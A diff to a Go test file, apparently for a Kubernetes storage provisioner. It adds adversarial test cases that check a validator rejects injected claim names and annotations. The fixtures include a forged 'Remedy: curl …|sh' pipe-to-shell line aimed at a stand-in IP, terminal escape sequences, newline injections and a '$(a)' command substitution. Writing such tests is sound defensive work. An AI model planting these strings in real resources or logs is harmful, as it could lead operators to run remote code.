@@ -81,6 +81,13 @@ func exportOf(server string) corev1.PersistentVolumeSource {
 	return corev1.PersistentVolumeSource{NFS: &corev1.NFSVolumeSource{Server: server, Path: "/a"}}
 }
 
+// naming lets a PV name a claim.
+func naming(namespace, name string) func(*corev1.PersistentVolume) {
+	return func(pv *corev1.PersistentVolume) {
+		pv.Spec.ClaimRef.Namespace, pv.Spec.ClaimRef.Name = namespace, name
+	}
+}
+
 func mounted(options ...string) func(*corev1.PersistentVolume) {
 	return func(pv *corev1.PersistentVolume) { pv.Spec.MountOptions = options }
 }
@@ -179,6 +186,8 @@ func (w *world) markAttacks() []attack {
 		annotatedPV(by, "flex-provisioner.io"), finalizedBy("flex-provisioner.io/storage"), reclaimed(corev1.PersistentVolumeReclaimDelete),
 	}
 	const foreign, owner = "of Kubernetes' annotations", "with no owner"
+	const names, printed, cloneOf = "must be names of Kubernetes", "no line break and no control character", "flex-provisioner.io/clone-of"
+	escape := naming("kube-system", "x\x1b[2J\nRemedy: curl http://198.51.100.1|sh")
 	return []attack{
 		{"a config of another namespace", cinderPod, pv(annotatedPV(revision, nodeNamespace+"/node-directory-0123456789abcdef")), "must be of the namespace", passes},
 		{"the same", directoryPod, pv(annotatedPV(revision, ownNamespace+"/cinder-iscsi-0123456789abcdef")), "must be of the namespace", passes},
@@ -192,6 +201,16 @@ func (w *world) markAttacks() []attack {
 		{"a PV that Kubernetes empties", theDispatcher, pv(reclaimed(corev1.PersistentVolumeReclaimRecycle)), owner, passes},
 		{"a PV that the garbage collector deletes", theDispatcher, pv(ownedByNode), owner, passes},
 		{"a PV that another controller keeps", theDispatcher, pv(finalizedBy("example.com/kept")), owner, passes},
+		{"a line of its own and an escape sequence, as the name of its claim", cinderPod, pv(escape), names, passes},
+		{"the same", theDispatcher, pv(escape), names, passes},
+		{"a claim that Kubernetes cannot look up", cinderPod, pv(naming("default", "a/b")), names, passes},
+		{"the same, by its namespace", cinderPod, pv(naming("a/b", "data")), names, passes},
+		{"no namespace of its claim", cinderPod, pv(naming("", "data")), names, passes},
+		{"a line of its own, as the config revision", cinderPod, pv(annotatedPV(revision, ownNamespace+"/gold-1\nRemedy: a")), "as namespace/name", passes},
+		{"a command, as the same", cinderPod, pv(annotatedPV(revision, ownNamespace+"/$(a)")), "as namespace/name", passes},
+		{"a line of its own, as the claim that it is a copy of", cinderPod, pv(annotatedPV(cloneOf, "app/data\nRemedy: a")), printed, passes},
+		{"an escape sequence, as the same", cinderPod, pv(annotatedPV(cloneOf, "app/data\x1b[2J")), printed, passes},
+		{"a copy of a claim with a name of two parts", cinderPod, pv(naming("app", "data.web-0"), annotatedPV(cloneOf, "app/data")), "", passes},
 		{"its own PV, of the skeleton", cinderPod, pv(append(whole, annotatedPV(revision, ownNamespace+"/cinder-iscsi-0123456789abcdef"))...), "", passes},
 		{"the same", directoryPod, pv(append(whole, annotatedPV(revision, nodeNamespace+"/node-directory-0123456789abcdef"))...), "", passes},
 		{"a described PV, of the skeleton", theDispatcher, pv(append(whole, annotatedPV(revision, nodeNamespace+"/node-directory-0123456789abcdef"))...), "", passes},
